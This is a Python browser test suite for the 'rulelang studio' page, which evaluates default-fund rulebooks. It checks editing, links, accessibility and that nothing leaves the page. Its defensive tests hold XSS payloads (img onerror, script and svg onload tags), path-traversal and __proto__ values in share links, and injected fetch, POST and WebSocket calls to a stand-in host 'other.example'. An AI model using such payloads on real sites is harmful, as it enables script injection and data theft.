"""The built page in a headless browser: it says what the package says, nothing leaves it, everybody can use it."""

import base64
import functools
import gzip
import json
import threading
import time
import zlib
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
from rulelang_studio import STATIC
from rulelang_studio.link import fragment

import rulelang
from rulelang.base.files import data_folder
from rulelang.tools.studio import server as servers
from rulelang.tools.studio.shared_folder import SharedFolder
from rulelang.tools.studio.site import export, find_site
from tests.report.browser import browser, lacking
from tests.studio.conftest import serving
from tests.studio.test_desk import texts

pytestmark = [
    pytest.mark.slow,  # the language is covered without it
    pytest.mark.skipif(not (STATIC / "index.html").is_file(), reason="the page is not built: see docs/playground.md"),
    pytest.mark.skipif(lacking() is not None, reason=str(lacking())),
]
START = 120
"""Seconds in which the language is to be there, on a machine that does much else."""


class Page:
    """The page in a browser, and what it asked of its own server and of others."""

    def __init__(self, driver, server, seen, others):
        self.driver, self.server, self.seen, self.others = driver, server, seen, others

    def js(self, script, *words):
        return self.driver.execute_script(script, *words)

    def until(self, script, *words, seconds=20):
        stop = time.monotonic() + seconds
        while not (found := self.js(f"return {script}", *words)):
            assert time.monotonic() < stop, (script, self.js("return document.getElementById('status').textContent"))
            time.sleep(0.02)
        return found

    def open(self, address=""):
        self.driver.get("about:blank")
        self.driver.get(self.server.address + address)
        self.until("window.studio && studio.engine.ready", seconds=START)
        self.settle()

    def settle(self):
        """Wait until nothing is asked and nothing waits."""
        idle = "studio.engine.ready && studio.engine.running === null && studio.engine.waiting.length === 0"
        time.sleep(0.5)
        self.until(idle, seconds=30)
        time.sleep(0.1)

    def text(self, place):
        return self.js("return document.querySelector(arguments[0]).innerText", place)

    def click(self, place):
        self.js("document.querySelector(arguments[0]).click()", place)

    def keys(self, *keys):
        from selenium.webdriver.common.action_chains import ActionChains

        ActionChains(self.driver).send_keys(*keys).perform()

    def write(self, side, text):
        self.js("studio.editors[arguments[0]].replace(arguments[1])", side, text)

    def tab(self, name):
        self.click(f"#tab-{name}")
        self.settle()
        return self.text(f"#panel-{name}")

    def complaints(self):
        return [each["message"] for each in self.driver.get_log("browser") if each["level"] in ("SEVERE", "WARNING")]


@contextmanager
def all_others():
    """A proxy that every request to another host comes to; what it was asked."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def answered(self):
            asked.append(f"{self.command} {self.path}")
            self.send_response(502)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *words):
            pass

    for method in ("GET", "POST", "CONNECT", "PUT", "OPTIONS", "HEAD"):
        setattr(Handler, f"do_{method}", Handler.answered)
    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as proxy:
        thread = threading.Thread(target=proxy.serve_forever)
        thread.start()
        try:
            yield proxy.server_port, asked
        finally:
            proxy.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def opened():
    seen, patch = [], pytest.MonkeyPatch()
    patch.setattr(
        servers._Handler,
        "log_request",
        lambda self, *_: seen.append((self.command, self.asked, int(self.headers.get("Content-Length") or 0))),
    )
    with (
        serving(find_site()) as server,
        all_others() as (port, others),
        browser(f"--proxy-server=http://127.0.0.1:{port}") as driver,
    ):
        yield Page(driver, server, seen, others)
    patch.undo()


@pytest.fixture
def page(opened):
    """The page with the first example, as somebody finds it who opens it."""
    opened.js("window.onbeforeunload = null")
    if opened.js("return window.studio === undefined || document.getElementById('examples').value === ''"):
        opened.open()
    opened.js("document.getElementById('dialog').close?.()")
    example(opened, "nasdaq-commodities-2018")
    opened.tab("pays")
    opened.complaints()
    return opened


def example(page, name):
    page.js("studio.state.opened = new Map(studio.state.files)")  # so that it does not ask for what a test changed
    script = (
        "const s = document.getElementById('examples'); s.value = arguments[0]; s.dispatchEvent(new Event('change'))"
    )
    page.js(script, name)
    page.settle()


def test_it_is_as_small_as_promised(opened):
    opened.seen.clear()
    opened.open("?plain")
    asked = [name or "index.html" for _, name, _ in opened.seen if name != "folder.json"]
    assert {"app.js", "bundle.zip", "pyodide/pyodide.asm.wasm"} <= set(asked)
    assert "memory.bin" not in asked
    assert sum(len(gzip.compress((STATIC / name).read_bytes(), 6)) for name in asked) <= 10_500_000
    opened.open()


def test_who_pays_is_what_the_package_says(page):
    folder = data_folder("rulebooks") / "nasdaq-commodities-2018"
    rulebook = rulelang.load_rulebook(folder / "rulebook.rules")
    allocation = rulelang.evaluate(rulebook, rulelang.load_event(folder / "events" / "aas-2018.event", rulebook))
    rows = page.js("return [...document.querySelectorAll('#panel-pays .cell')].map((cell) => cell.innerText)")
    assert sorted(rows) == sorted(rulebook.currency.grouped(each.amount) for each in allocation.allotments)
    page.click("#panel-pays .cell[title*='STATKRAFT']")
    page.settle()
    assert "pays EUR 4,999,993.97" in page.text("#why")
    page.click("#why .place")
    assert page.js("return studio.editors.left.view.state.selection.main.empty") is False


def test_what_is_typed_is_checked_and_mended(page):
    page.js("const v = studio.editors.left.view; v.dispatch({selection: {anchor: v.state.doc.length}}); v.focus()")
    page.keys('\nensure "small" for survivor: total_paid <= EUR 5')
    typed = time.monotonic()
    page.until("document.querySelector('#left .cm-lintRange-error')")
    print(f"finding {1000 * (time.monotonic() - typed):.0f} ms after the last key")
    assert "Problems (" in page.text("#tab-problems")
    assert "Write survivors" in page.tab("problems")
    page.click("#panel-problems .fix")
    page.until("!document.querySelector('#left .cm-lintRange-error')")
    assert page.js("return studio.editors.left.text").endswith("for survivors: total_paid <= EUR 5")
    assert "BROKEN: small" in page.tab("pays")


def test_a_finding_of_an_event_is_marked_in_the_event(page):
    text = page.js("return studio.editors.right.text")
    page.write("right", text.replace("default of AAS", "default of ASS"))
    page.until("document.querySelector('#right .cm-lintRange-error')")
    assert "events/aas-2018.event, line" in page.tab("problems")
    page.settle()
    assert "There is no answer" in page.tab("pays")


def test_the_slider_runs_the_event_at_every_loss(page):
    from selenium.webdriver.common.keys import Keys

    page.tab("losses")
    assert "EUR 150,000,000.00" in page.text("#panel-losses .readout")
    page.js("document.querySelector('#panel-losses input[type=range]').focus()")
    page.keys(Keys.END)
    page.settle()
    assert "stays uncovered" in page.text("#panel-losses .below")
    page.keys(Keys.HOME, *[Keys.ARROW_RIGHT] * 20)
    page.settle()
    loss = page.text("#panel-losses .readout").removeprefix("Loss EUR ")
    assert "Nothing stays uncovered" in page.text("#panel-losses .below")
    assert page.js("return document.querySelector('#panel-losses tfoot td:last-child').innerText") == loss
    page.click("#panel-losses .loss-tools button:last-child")
    page.settle()
    assert page.text("#panel-losses .readout") == "Loss EUR 36,000,000.00"
    page.click("#panel-losses .cell")
    page.settle()
    assert "36,000,000.00" in page.text("#why-loss")


def test_versions_are_compared(page):
    example(page, "krx-derivatives")
    told = page.tab("compare")
    assert "order of loss differs" in told
    assert "reserve_junior" in told
    page.write("left", page.js("return studio.editors.left.text").replace("Korea", "KOREA"))
    page.settle()
    assert "before-2014.rules, as opened" in page.text("#panel-compare")
    alone = "const s = [...document.querySelectorAll('#panel-compare select')].at(-1);"
    page.js(f"{alone} s.value = ''; s.dispatchEvent(new Event('change'))")
    page.settle()
    assert "title of the rulebook" in page.text("#panel-compare") or "text" in page.text("#panel-compare .verdict")
    assert "3,848,927,126" in page.tab("pays"), "what is compared alone leaves the event beside the rulebook"
    page.js("location.hash = ''")


def test_tests_and_what_they_reach_are_told(page):
    assert "5 of 5 tests pass" in page.tab("tests")
    text = page.js("return studio.editors.left.text").replace(
        "expect margin pays EUR 36 million", "expect margin pays EUR 35 million", 1
    )
    page.write("left", text)
    page.settle()
    assert "4 of 5 tests pass" in page.text("#panel-tests")
    assert "FAILED the default of September 2018" in page.text("#panel-tests")


def test_a_history_is_told_day_by_day(page):
    example(page, "krx-hanmag")
    assert page.js("return studio.state.right") == "hanmag.history"
    assert "HanMag" in page.tab("pays")
    assert page.js("return document.querySelectorAll('#panel-pays table').length") > 0


def at(page, side, words, within=0):
    """Put the cursor of an editor into some words of its text, in sight."""
    script = (
        "const e = studio.editors[arguments[0]], at = e.text.indexOf(arguments[1]) + arguments[2];"
        "e.view.dispatch({selection: {anchor: at}, scrollIntoView: true}); e.view.focus();"
    )
    page.js(script, side, words, within)
    time.sleep(0.3)


def line(page, side):
    return page.js(
        "const v = studio.editors[arguments[0]].view; return v.state.doc.lineAt(v.state.selection.main.head).text", side
    )


def test_a_name_under_the_pointer_is_explained_with_what_it_came_to(page):
    from selenium.webdriver.common.action_chains import ActionChains

    at(page, "left", "tranche fund_draw", 10)
    where = "const v = studio.editors.left.view, c = v.coordsAtPos(v.state.selection.main.head); return [c.left, c.top]"
    x, y = page.js(where)
    ActionChains(page.driver).move_by_offset(int(x), int(y) + 5).move_by_offset(3, 0).perform()
    page.until("document.querySelector('.hover')")
    told = page.text(".hover")
    assert "Commodities default fund" in told
    assert "107,000,000.00" in told
    ActionChains(page.driver).move_by_offset(-int(x) - 3, -int(y) - 5).perform()


def test_names_are_offered_found_and_changed_everywhere(page):
    from selenium.webdriver.common.keys import Keys

    at(page, "left", "up to senior_capital", 20)
    page.keys(" + juni")
    page.until("document.querySelector('.cm-tooltip-autocomplete')")
    time.sleep(0.2)
    page.keys(Keys.ENTER)
    page.until("studio.editors.left.text.includes('senior_capital + junior_capital')")
    page.keys(Keys.F12)
    page.until("studio.editors.left.view.state.selection.main.empty === false")
    assert line(page, "left").startswith("given junior_capital : money")
    page.keys(Keys.F2)
    page.until("document.getElementById('dialog').open")
    page.keys("first_capital", Keys.ENTER)
    page.until("studio.editors.right.text.includes('given first_capital = EUR 7 million')")
    page.settle()
    texts = page.js("return Object.fromEntries(studio.state.files)")
    assert "junior_capital" not in texts["rulebook.rules"]
    assert "given first_capital" in texts["events/third-default.event"]
    assert "given junior_capital" in texts["events/interim-november.event"], "that one is of another rulebook"
    assert "Problems (1)" in page.text("#tab-problems")


def test_the_parts_of_a_text_are_gone_to(page):
    page.click("#left-outline")
    page.until("document.getElementById('dialog').open")
    parts = page.text("#dialog").split("\n")
    assert any(part.startswith("fund_draw") for part in parts)
    press(page, "fund_draw")
    assert line(page, "left").strip().startswith("tranche fund_draw")
    assert page.js("return document.getElementById('dialog').open") is False


def test_the_uses_of_a_name_are_gone_to(page):
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    at(page, "left", "given junior_capital", 8)
    ActionChains(page.driver).key_down(Keys.SHIFT).send_keys(Keys.F12).key_up(Keys.SHIFT).perform()
    page.until("document.getElementById('dialog').open")
    told = page.text("#dialog")
    assert "given junior_capital : money" in told
    assert "events/third-default.event" in told
    press(page, "events/third-default.event")
    page.until("studio.editors.right.name === 'events/third-default.event'")
    assert "junior_capital" in line(page, "right")


def test_words_are_coloured_by_what_they_are_and_amounts_stand_beside_steps(page):
    page.until("document.querySelector('#left .amount')")
    beside = page.js(
        "return [...document.querySelectorAll('#left .amount')].map((each) => each.closest('.cm-line').innerText)"
    )
    assert any("tranche fund_draw" in each and "107,000,000" in each for each in beside)
    assert "107,000,000" not in page.js("return studio.editors.left.text")
    words = "return [...document.querySelectorAll('#left .is-method')].map((each) => each.innerText)"
    assert "fund_draw" in page.js(words)
    page.write("left", page.js("return studio.editors.left.text").replace("fund_draw", "draw_fund"))
    page.settle()
    assert "draw_fund" in page.js(words)
    page.js("const v = studio.editors.left.view; v.dispatch({selection: {anchor: 0}}); v.focus()")
    assert page.js("return document.querySelectorAll('#left .cm-foldGutter span[title=\"Fold line\"]').length") > 0


def test_a_link_carries_everything(page):
    page.write("left", page.js("return studio.editors.left.text") + "# mine: é 𝕂\n")
    page.tab("explain")
    page.click("#share")
    page.until("document.querySelector('#link')")
    link = page.js("return document.querySelector('#link').value")
    packed = link.partition("#state=")[2]
    state = json.loads(zlib.decompress(base64.urlsafe_b64decode(packed + "=" * (-len(packed) % 4)), -15))
    assert state["files"]["rulebook.rules"].endswith("# mine: é 𝕂\n")
    assert (state["v"], state["right"], state["tab"]) == (1, "events/aas-2018.event", "explain")
    page.js("document.getElementById('dialog').close()")
    example(page, "krx-derivatives")
    page.click("#open")
    page.js("document.getElementById('open-link').value = arguments[0]", f"https://example.org/play/#state={packed}")
    page.click("#dialog .choices button")
    page.until("studio.editors.left.text.includes('mine: é')")
    page.open(f"#state={packed}")
    assert page.js("return studio.editors.left.text").endswith("# mine: é 𝕂\n")
    assert page.js("return studio.state.tab") == "explain"
    page.open(fragment(texts("krx-derivatives"), left="after-2014.rules", right=None, tab="tests"))
    assert page.js("return studio.state.left") == "after-2014.rules"
    assert "tests pass" in page.text("#panel-tests")
    page.open("#example=otc-rates")
    assert "interest rate" in page.js("return studio.editors.left.text")


def test_a_long_link_is_warned_of(page):
    lines = "\n".join(
        f"# {base64.b64encode(bytes((n * n * 7) % 251 for n in range(k, k + 60))).decode()}" for k in range(400)
    )
    page.write("right", page.js("return studio.editors.right.text") + lines)
    page.click("#share")
    page.until("document.querySelector('#link')")
    long = page.js("return document.querySelector('#link').value.length") > 8192
    assert long == ("longer than 8 KB" in page.text("#dialog"))
    assert long
    page.js("document.getElementById('dialog').close()")


HOSTILE = """rulebook "<img src=x onerror=window.hit=1></script><script>window.hit=2</script>" version "1"
currency EUR
members have
    fund : money
waterfall "<svg onload=window.hit=3>"
    tranche own "</title><img src=x onerror=window.hit=4>" cite "<b>x</b>"
        paid by defaulters from fund
    finally rest "<script>window.hit=5</script>"
ensure "<img src=x onerror=window.hit=6>":
    loss > EUR 90
test "<img src=x onerror=window.hit=7>"
    declared 2025-01-01
    member A
        fund = EUR 1
    default of A loss EUR 2
    expect own pays EUR 2
"""
HOSTILE_EVENT = """event "<img src=x onerror=window.hit=8>"
declared 2025-01-01
member "<img src=x onerror=window.hit=9>" "<img src=x onerror=window.hit=10>"
    fund = EUR 1
default of "<img src=x onerror=window.hit=9>" loss EUR 9.50
"""


def test_a_hostile_link_runs_nothing(page):
    name = "<img src=x onerror=window.hit=11>.rules"
    page.open(
        fragment(
            {name: HOSTILE, "other.rules": HOSTILE.replace("EUR 90", "EUR 9"), "a.event": HOSTILE_EVENT},
            left=name,
            right="a.event",
        )
    )
    for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
        shown = page.tab(tab)
        assert "<img src=x" in shown or tab in ("losses", "problems"), tab
    page.click("#tab-pays")
    for place in ("#panel-pays .cell", "#share", "#save", "#open", "#left-files"):
        page.click(place)
        page.settle()
    page.js("document.getElementById('dialog').close()")
    assert page.js("return window.hit") is None
    assert page.js("return document.querySelectorAll('img, script:not([src]), main svg script').length") == 0


def packed(state):
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = deflate.compress(state if isinstance(state, bytes) else json.dumps(state).encode()) + deflate.flush()
    return "#state=" + base64.urlsafe_b64encode(data).rstrip(b"=").decode()


@pytest.mark.parametrize(
    ("given", "words"),
    [
        ("#state=!!!", "damaged"),
        ("#state=AAAA", "damaged"),
        (packed(b"not JSON"), "damaged"),
        (packed({"v": 2, "files": {"a.rules": ""}}), "another version"),
        (packed({"v": 1}), "no files"),
        (packed({"v": 1, "files": {}}), "no files"),
        (packed({"v": 1, "files": {"../a.rules": ""}}), "no text of this page"),
        (packed({"v": 1, "files": {"a.rules": {"toString": "x"}}}), "no text of this page"),
        (packed({"v": 1, "files": {"__proto__": "x"}}), "no text of this page"),
        (packed({"v": 1, "files": {"a.html": "x"}}), "no text of this page"),
        (packed({"v": 1, "files": {"a.rules": "#" * 200_001}}), "200,000"),
        (packed(b"[" * 20_000_000), "more than this page takes"),
    ],
)
def test_a_link_that_is_none_is_refused_with_words(page, given, words):
    page.js("location.hash = arguments[0]", given)
    page.until("document.getElementById('dialog').open")
    assert words in page.text("#dialog")
    assert "Nasdaq" in page.js("return studio.editors.left.text")
    page.js("history.replaceState(null, '', '#')")


def test_too_much_text_is_refused_kindly(page):
    before = page.js("return studio.editors.left.text")
    page.js("const v = studio.editors.left.view; v.dispatch({changes: {from: 0, insert: '#'.repeat(4_000_000)}})")
    page.until("document.getElementById('dialog').open")
    assert "this page takes 200,000" in page.text("#dialog")
    assert page.js("return studio.editors.left.text") == before


def test_a_runtime_that_fails_starts_again_and_no_text_is_lost(page):
    page.write("left", page.js("return studio.editors.left.text") + "# mine\n")
    page.settle()
    deep = "let deep = []; for (let n = 0; n < 100_000; n += 1) deep = [deep];"
    broken = f"{deep} studio.engine.ask({{ask: 'unzip', data: deep}}).catch((error) => (window.broken = error.message))"
    page.js(broken)
    page.until("!studio.engine.ready")
    assert "Your texts are as they were" in page.until("window.broken")
    page.write("left", page.js("return studio.editors.left.text") + "# meanwhile\n")
    page.until("studio.engine.ready", seconds=START)
    page.settle()
    assert page.js("return studio.editors.left.text").endswith("# mine\n# meanwhile\n")
    assert "19,337,349.40" in page.tab("pays")


def test_nothing_leaves_the_page(page):
    page.seen.clear()
    page.write("left", page.js("return studio.editors.left.text") + "# secret\n")
    for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
        page.tab(tab)
    page.click("#share")
    page.until("document.querySelector('#link')")
    page.js("document.getElementById('dialog').close()")
    assert page.seen == []
    refused = (
        "const done = arguments[0]; fetch('http://other.example/?x').then(() => done('sent'), () => done('refused'))"
    )
    assert page.driver.execute_async_script(refused) == "refused"
    form = "const f = document.createElement('form'); f.action = 'http://other.example/'; document.body.append(f);"
    page.js(f"{form} f.submit()")
    image = "const i = new Image(); i.src = 'http://other.example/i.png'; document.body.append(i)"
    page.js(image)
    time.sleep(0.5)
    assert [each for each in page.others if "other.example" in each] == []
    assert all(method == "GET" and length == 0 for method, _, length in page.seen)
    assert "Nothing leaves this page" in page.text("#promise")
    page.js("document.querySelectorAll('form, body > img').forEach((each) => each.remove())")


def test_the_proxy_would_have_seen_it(opened):
    opened.driver.get("http://control.example/")
    assert any("control.example" in each for each in opened.others)
    opened.open()
    hosts = {each.split("/")[2] for each in opened.others if each.startswith("GET http")}
    assert {host for host in hosts if not host.endswith(".google.com")} == {"control.example"}  # the browser's own


class _Plain(SimpleHTTPRequestHandler):
    """Any web server: it sends files, and nothing along with them."""

    extensions_map: ClassVar[dict[str, str]] = {**SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript"}

    def log_message(self, *words):
        pass


@pytest.fixture
def exported(tmp_path):
    """A copy of the page on a web server that knows nothing of it; the address."""
    export(find_site(), tmp_path / "public")
    handler = functools.partial(_Plain, directory=tmp_path / "public")
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as plain:
        thread = threading.Thread(target=plain.serve_forever)
        thread.start()
        yield tmp_path / "public", f"http://127.0.0.1:{plain.server_port}/"
        plain.shutdown()
        thread.join()


def test_a_copy_on_any_web_server_lets_nothing_out(page, exported):
    folder, address = exported
    tries = (
        "await Promise.allSettled([() => import('http://other.example/a.mjs'), () => fetch('http://other.example/b'),"
        "() => fetch('http://other.example/c', { method: 'POST', mode: 'no-cors', body: 'text' }),"
        "() => new FontFace('x', 'url(http://other.example/d)').load(), () => new Promise((done) => {"
        "new WebSocket('ws://other.example/e').onerror = done })].map(async (attempt) => attempt()));\n"
    )
    worker = folder / "worker.js"
    worker.write_text(tries + worker.read_text("utf-8"), encoding="utf-8")
    page.driver.get(address)
    page.until("window.studio && studio.engine.ready", seconds=START)
    page.settle()
    assert "19,337,349.40" in page.tab("pays")
    assert [each for each in page.others if "other.example" in each] == []
    page.open()


def test_it_works_without_its_server(page):
    with serving(find_site()) as other:
        page.driver.get(other.address)
        page.until("window.studio && studio.engine.ready", seconds=START)
        page.settle()
    for tab, words in {
        "explain": "The default",
        "tests": "5 of 5",
        "compare": "Edits",
        "pays": "19,337,349.40",
    }.items():
        page.write("right", page.js("return studio.editors.right.text") + "\n")
        assert words in page.tab(tab)
    page.open()


def test_the_memory_is_an_accelerator_only(page, tmp_path):
    assert page.js("return studio.engine.marks.memory") is True
    with_memory = page.js("return studio.engine.marks.package")
    page.open("?plain")
    assert page.js("return studio.engine.marks.memory") is None
    assert page.js("return studio.engine.marks.package") > with_memory
    (tmp_path / "damaged").write_bytes(
        gzip.compress(gzip.decompress((STATIC / "memory.bin").read_bytes())[:20_000_000])
    )
    (tmp_path / "nothing").write_bytes(b"\x1f\x8bnothing")
    for name in ("damaged", "nothing"):
        with serving({**find_site(), "memory.bin": tmp_path / name}) as other:
            page.driver.get(other.address)
            page.until("window.studio && studio.engine.ready", seconds=START)
            page.settle()
            assert page.js("return studio.engine.marks.memory") is None
            assert "19,337,349.40" in page.tab("pays")
    page.open()


def test_it_is_used_by_keyboard_alone(page):
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    page.js("document.querySelector('.skip').focus()")
    reached = []
    for _ in range(30):
        page.keys(Keys.TAB)
        reached.append(page.js("const a = document.activeElement; return a.id || a.getAttribute('aria-label')"))
        if reached[-1] == "tab-pays":
            break
    assert {"examples", "open", "save", "share", "Rulebook", "Event or second version", "tab-pays"} <= set(reached)
    page.keys(Keys.ARROW_RIGHT)
    assert page.js("return document.activeElement.id") == "tab-explain"
    page.keys(Keys.END)
    assert page.js("return studio.state.tab") == "problems"
    page.keys(Keys.HOME)
    page.settle()
    page.keys(Keys.TAB, Keys.TAB, Keys.ENTER)
    page.settle()
    assert "margin" in page.text("#why")
    page.js("document.getElementById('share').focus()")
    page.keys(Keys.ENTER)
    page.until("document.getElementById('dialog').open")
    page.keys(Keys.ESCAPE)
    assert page.js("return document.getElementById('dialog').open") is False
    page.js("studio.editors.left.view.focus()")
    ActionChains(page.driver).key_down(Keys.CONTROL).send_keys(Keys.ENTER).key_up(Keys.CONTROL).perform()
    assert page.js("return document.activeElement.id") == "results"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_fits_a_telephone_in_light_and_dark(page, scheme, tmp_path):
    device = {"width": 400, "height": 900, "deviceScaleFactor": 1, "mobile": True}
    page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", device)
    media = {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
    page.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", media)
    try:
        page.settle()
        for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
            page.tab(tab)
            page.driver.save_screenshot(str(tmp_path / f"{tab}.png"))
            assert page.js("return document.documentElement.scrollWidth") <= 400, tab
        ink, paper = page.js("const s = getComputedStyle(document.body); return [s.color, s.backgroundColor]")
        assert (brightness(ink) > brightness(paper)) == (scheme == "dark")
    finally:
        page.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        page.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})


def brightness(colour):
    return sum(int(part) for part in colour.removeprefix("rgb(").removesuffix(")").split(","))


def test_files_are_opened_and_made(page, tmp_path):
    from selenium.webdriver.common.by import By

    for name in ("a.rules", "b.event"):
        (tmp_path / name).write_text("# opened\r\n", encoding="utf-8")
    (tmp_path / "c.bin").write_bytes(b"\xff")
    page.click("#open")
    field = page.driver.find_element(By.ID, "open-files")
    field.send_keys("\n".join(str(tmp_path / name) for name in ("a.rules", "b.event", "c.bin")))
    page.until("studio.state.left === 'a.rules' && studio.state.right === 'b.event'")
    assert page.js("return studio.editors.left.text") == "# opened\n"
    made = page.driver.execute_async_script(
        "const done = arguments[0];"
        "studio.engine.ask({ask: 'zip', files: Object.fromEntries(studio.state.files)})"
        ".then((a) => done(Array.from(a.told)))"
    )
    (tmp_path / "made.zip").write_bytes(bytes(made))
    page.click("#open")
    page.driver.find_element(By.ID, "open-files").send_keys(str(tmp_path / "made.zip"))
    page.until("!document.getElementById('dialog').open && studio.state.files.size === 2")
    (tmp_path / "d.rules").write_bytes(b"\xff\xfe")
    page.click("#open")
    page.driver.find_element(By.ID, "open-files").send_keys(str(tmp_path / "d.rules"))
    page.until("document.getElementById('dialog').innerText.includes('no text in UTF-8')")
    page.js("document.getElementById('dialog').close()")


def test_a_folder_is_opened_and_saved_to(page, tmp_path):
    (tmp_path / "a.rules").write_text('rulebook "Mine" version "1"\n', encoding="utf-8")
    with serving(find_site(), SharedFolder(tmp_path)) as other:
        page.driver.get(other.address)
        page.until("window.studio && studio.engine.ready", seconds=START)
        page.until("studio.state.left === 'a.rules'")
        page.write("left", 'rulebook "Mine" version "2"\n')
        page.click("#save")
        page.click("#dialog .acts button")
        page.until("document.getElementById('dialog').innerText.includes('saved a.rules')")
        assert (tmp_path / "a.rules").read_text() == 'rulebook "Mine" version "2"\n'
        (tmp_path / "a.rules").write_text("by another\n", encoding="utf-8")
        page.write("left", "mine\n")
        page.click("#save")
        page.click("#dialog .acts button")
        page.until("document.getElementById('dialog').innerText.includes('NOT saved a.rules')")
        assert (tmp_path / "a.rules").read_text() == "by another\n"
    page.open()


def press(page, words):
    script = (
        "[...document.querySelectorAll('#dialog button')].find((b) => b.textContent.startsWith(arguments[0])).click()"
    )
    page.js(script, words)


def choose(page, name):
    page.js("const s = document.getElementById('examples'); s.value = arguments[0]; s.onchange({ target: s })", name)


def test_texts_of_others_are_not_saved_to_the_folder_and_changes_are_not_put_away_unasked(page, tmp_path):
    text = b'\xef\xbb\xbfrulebook "Mine" version "1"\r\n\r\n'
    (tmp_path / "rulebook.rules").write_bytes(text)
    (tmp_path / "x.csv").write_bytes(b"\xff")
    said = "document.getElementById('dialog').innerText"
    with serving(find_site(), SharedFolder(tmp_path)) as other:
        page.driver.get(other.address)
        page.until(f"window.studio && {said}.includes('x.csv: it is no text in UTF-8')")
        page.js("document.getElementById('dialog').close()")
        page.write("left", 'rulebook "Mine" version "2"\n\n')
        choose(page, "nasdaq-commodities-2018")
        page.until(f"{said}.includes('Put your changes away')")
        press(page, "Keep these")
        page.until("document.getElementById('examples').value === '' && studio.state.files.size === 1")
        page.click("#save")
        press(page, "All that changed")
        page.until(f"{said}.includes('saved rulebook.rules')")
        assert (tmp_path / "rulebook.rules").read_bytes() == text.replace(b'"1"', b'"2"')  # mark and line ends too
        press(page, "Close")
        choose(page, "nasdaq-commodities-2018")
        page.until("studio.state.files.size > 1")
        page.write("left", "another\n")
        page.click("#save")
        assert "All that changed" not in page.js(f"return {said}")
        press(page, "Close")
        page.click("#open")
        press(page, "Read ")
        page.until(f"{said}.includes('Put your changes away')")
        press(page, "Open the others")
        page.until("studio.state.files.size === 1")
    assert (tmp_path / "rulebook.rules").read_bytes() == text.replace(b'"1"', b'"2"')
    page.open()


def test_kept_texts_are_written_over_by_no_example(page):
    kept = "return JSON.parse(localStorage.getItem('rulelang studio')).files['rulebook.rules']"
    page.write("left", "mine\n")
    page.click("#save")
    page.click("#dialog input[type=checkbox]")
    press(page, "Close")
    choose(page, "bme-clearing")  # nothing is lost, so nothing is asked
    page.until("studio.state.example === 'bme-clearing'")
    page.write("left", "of an example\n")
    time.sleep(1)
    assert page.js(kept) == "mine\n"
    page.click("#open")
    press(page, "The texts that are kept")
    press(page, "Open the others") if page.js("return document.getElementById('dialog').open") else None
    page.until("studio.state.kept && studio.editors.left.text === 'mine\\n'")
    page.js("localStorage.clear()")
    page.open()


@pytest.mark.skipif(not (STATIC / "docs").is_dir(), reason="the page was built without the documentation")
def test_the_documentation_lies_beside_it_and_opens_its_examples(page):
    page.driver.get(f"{page.server.address}docs/tour/01-a-waterfall.html")
    page.until("document.querySelector('.playground a')")
    assert page.complaints() == []
    page.click(".playground a")
    page.until("window.studio && studio.engine.ready", seconds=START)
    page.settle()
    assert "Harbour Clearing" in page.js("return studio.editors.left.text")
    assert page.js("return document.querySelector('footer a[href*=docs]') !== null")
    page.open()


def test_the_page_complains_of_nothing(page):
    page.open()
    for tab in ("pays", "losses", "compare", "tests"):
        page.tab(tab)
    assert page.complaints() == []
